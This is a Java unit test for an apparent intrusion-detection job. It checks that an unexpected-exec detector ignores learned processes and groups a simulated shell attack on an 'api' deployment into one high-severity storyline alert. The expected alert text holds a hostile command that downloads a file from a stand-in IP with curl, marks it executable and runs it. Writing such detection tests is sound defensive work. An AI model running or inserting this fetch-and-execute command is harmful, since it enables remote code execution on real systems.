package dev.ringfence.jobs.detect.exec;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ringfence.contract.Alert;
import dev.ringfence.contract.Severity;
import dev.ringfence.contract.StorylineStep;
import dev.ringfence.jobs.config.JobConfig;
import dev.ringfence.jobs.lineage.Observation;
import dev.ringfence.jobs.scenario.Proc;
import dev.ringfence.jobs.scenario.Replay;
import dev.ringfence.jobs.scenario.ShopCluster;
import dev.ringfence.jobs.scenario.TestConfigs;
import java.util.List;
import org.junit.jupiter.api.Test;

class UnexpectedExecDetectorTest {
    private final JobConfig config = TestConfigs.harness();

    private List<Alert> run(ShopCluster shop) throws Exception {
        List<Observation> observations = Replay.lineage(config, shop.script.events());
        try (var harness = Replay.keyed(new UnexpectedExecDetector(config.detectors.unexpectedExec,
                config.detectors.binaries), Observation::workloadKey)) {
            return Replay.run(harness, observations, o -> o.exec() != null);
        }
    }

    @Test
    void learnedAndDeclaredProcessesRaiseNothing() throws Exception {
        // cron shells and package installs were learned; pg_dump is declared for postgres
        assertThat(run(new ShopCluster().startup().background(3_200, 130_000).exfiltration(100_000))).isEmpty();
    }

    @Test
    void aShellInTheApiAndWhatItRunsAreOneStoryline() throws Exception {
        ShopCluster shop = new ShopCluster().startup().background(3_200, 40_000);
        Proc shell = shop.remoteExec(40_000);
        shop.payload(shell, 41_000);
        List<Alert> alerts = run(shop);

        assertThat(alerts).extracting(Alert::getAlertId).containsOnly(alerts.getFirst().getAlertId());
        assertThat(alerts).extracting(Alert::getRevision).containsExactly(1, 2, 3);
        Alert last = alerts.getLast();
        assertThat(last.getRuleId()).isEqualTo("RF-EXEC-001");
        assertThat(last.getTechniqueIds()).containsExactly("T1059.004");
        assertThat(last.getProcess().getExecId()).isEqualTo(shell.execId());
        assertThat(last.getSeverity()).isEqualTo(Severity.HIGH);
        assertThat(last.getStoryline()).extracting(StorylineStep::getDescription).containsExactly(
                "shop/Deployment/api ran /bin/sh -c curl -s http://203.0.113.9/x -o /tmp/x; chmod +x /tmp/x; /tmp/x",
                "shop/Deployment/api ran /usr/bin/curl -s http://203.0.113.9/x",
                "shop/Deployment/api ran /tmp/x");
    }
}
